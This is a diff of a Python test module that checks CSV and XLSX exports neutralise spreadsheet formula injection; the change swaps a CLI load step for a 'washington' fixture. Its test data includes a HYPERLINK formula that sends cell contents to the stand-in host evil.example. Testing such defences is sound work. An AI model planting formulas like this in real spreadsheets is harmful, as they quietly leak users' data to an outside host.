@@ -15,7 +15,7 @@ from openpyxl import load_workbook
 
 from ramstein.app import create_app
 from ramstein.io.cells import csv_text, neutral, restored
-from tests.conftest import Cli
+from tests.conftest import Cli, Washington
 
 EVIL = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -36,8 +36,8 @@ def test_neutral_and_restored_are_inverse() -> None:
 
 
 @pytest.fixture
-def evil_store(cli: Cli, tmp_path: Path) -> Cli:
-    assert cli("load", "washington-2024").exit_code == 0
+def evil_store(cli: Cli, tmp_path: Path, washington: Washington) -> Cli:
+    washington(cli)
     # Written as any export writes them (neutralised), so the store holds EVIL exactly.
     rows = [
         dict(
@@ -71,7 +71,9 @@ def _exported_descriptions(cli: Cli, out: Path) -> dict[str, str]:
     return {r["id"]: r["description"] for r in csv.DictReader(out.open(encoding="utf-8"))}
 
 
-def test_cli_exports_neutralise_and_import_back_the_same(evil_store: Cli, tmp_path: Path) -> None:
+def test_cli_exports_neutralise_and_import_back_the_same(
+    evil_store: Cli, tmp_path: Path, washington: Washington
+) -> None:
     csv_file, xlsx_file = tmp_path / "out.csv", tmp_path / "out.xlsx"
     cells = _exported_descriptions(evil_store, csv_file)
     assert evil_store("export", str(xlsx_file)).exit_code == 0
@@ -86,7 +88,7 @@ def test_cli_exports_neutralise_and_import_back_the_same(evil_store: Cli, tmp_pa
     # Each file imports into an empty store that then exports the very same cells.
     for exported in (csv_file, xlsx_file):
         fresh = Cli(f"sqlite:///{tmp_path / (exported.suffix[1:] + '.db')}")
-        assert fresh("load", "washington-2024").exit_code == 0
+        washington(fresh)
         assert fresh("import", "contributions", str(exported)).exit_code == 0
         again = _exported_descriptions(fresh, tmp_path / f"again-{exported.suffix[1:]}.csv")
         assert {k: v for k, v in again.items() if k.startswith("EVIL-")} == {
